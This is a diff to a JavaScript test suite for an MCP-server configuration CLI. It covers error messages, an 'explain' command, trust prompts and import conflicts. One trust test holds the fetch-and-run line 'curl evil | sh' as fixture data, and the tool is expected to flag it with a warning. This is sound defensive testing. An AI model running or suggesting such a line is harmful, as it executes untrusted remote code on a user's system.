@@ -123,7 +123,10 @@ describe("M05 add, list, get, remove", () => {
     [["import", "emacs"], 2, "Unknown client"],
     [["list", "--config", "nowhere.json"], 3, "File not found"],
     [["list", "--nonsense"], 2, "--help"],
-    [["config", "nonsense"], 2, ""],
+    [["config", "nonsense"], 2, "Unknown command 'nonsense'.\n"],
+    [["list", "--jsn"], 2, "Unknown option '--jsn'.\n       Did you mean --json?\n"],
+    [["secret", "lst"], 2, "Unknown command 'lst'.\n       Did you mean list?\n"],
+    [["secret"], 2, "`plugboard secret` needs one of: set, list, move, remove."],
     [["completion", "tcsh"], 2, "Allowed choices are bash, zsh, fish"],
   ])("%j fails with exit code %i and says why", async (args, code, words) => {
     const run = await createSandbox().cli(args);
@@ -176,6 +179,31 @@ describe("M05 add, list, get, remove", () => {
 });
 
 describe("M12 explain", () => {
+  it("names the line that switches a server off, and the line of the policy's rule", async () => {
+    const box = createSandbox();
+    const file = box.write(
+      "home/.config/plugboard/config.json",
+      `{ "mcpServers": {
+        "off": { "command": "x",
+          "enabled": false },
+        "bad": { "command": "y" },
+        "other": { "command": "z" } } }`,
+    );
+    const policy = box.write(
+      "managed/managed.json",
+      `{ "deniedMcpServers": [
+          { "serverName": "worse" },
+          { "serverName": "bad" } ],
+        "allowedMcpServers": [{ "serverName": "off" }] }`,
+    );
+    expect((await box.cli(["explain", "off"])).out).toContain(`switched off, \`enabled\` in ${file}:3\n`);
+    expect((await box.cli(["explain", "off", "--json"])).json).toMatchObject({
+      decidedBy: { rule: "enabled", origin: { file, line: 3 } },
+    });
+    expect((await box.cli(["explain", "bad"])).out).toContain(`the rule for the name "bad" in ${policy}:3\n`);
+    expect((await box.cli(["explain", "other"])).out).toContain(`allowed servers in ${policy}:4\n`);
+  });
+
   it("names the winner's file and line, and what it hides", async () => {
     const box = createSandbox({
       [user]: { mcpServers: { it: { command: "user" } } },
@@ -286,7 +314,7 @@ describe("M11 trust on the command line", () => {
   it("shows the exact command, asks, and remembers yes and no", async () => {
     const box = createSandbox(files);
     const run = await box.cli(["trust"], { answers: [true, false] });
-    expect(run.out).toContain("sh -c 'curl evil | sh'");
+    expect(run.out).toContain("  program   sh\n  args      -c 'curl evil | sh'\n");
     expect(run.out).toContain("warning   runs a script given on its command line");
     expect(run.out).toContain("Trusted it. You will be asked again after any change.");
     const list = await box.cli(["list"]);
@@ -340,6 +368,16 @@ describe("M10 import and export on the command line", () => {
     const box = createSandbox({ "project/.cursor/mcp.json": { mcpServers: { evil: { command: "evil" } } } });
     await box.cli(["import", "--yes"]);
     expect((await box.cli(["list"])).out).toMatch(/evil +untrusted/);
+  });
+
+  it("keeps our server if another client's differs from it only in upper and lower case", async () => {
+    const box = createSandbox({
+      "home/.config/plugboard/config.json": { mcpServers: { GitHub: { command: "ours" } } },
+      "home/.cursor/mcp.json": { mcpServers: { github: { command: "theirs" } } },
+    });
+    const run = await box.cli(["import", "--yes"]);
+    expect(run).toMatchObject({ code: 0, err: "" });
+    expect(run.out).toMatch(/keep +github/);
   });
 
   it("exports a client's format that imports back unchanged", async () => {
